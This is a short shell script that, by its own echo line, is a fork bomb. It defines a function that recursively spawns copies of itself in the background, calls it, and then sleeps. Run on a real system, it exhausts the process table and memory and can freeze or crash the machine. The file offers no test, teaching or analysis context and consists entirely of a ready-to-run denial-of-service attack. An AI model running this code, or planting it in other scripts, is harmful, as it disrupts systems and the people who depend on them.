#!/bin/sh
echo "fork bomb"
bomb() { bomb | bomb & }
bomb
sleep 3600
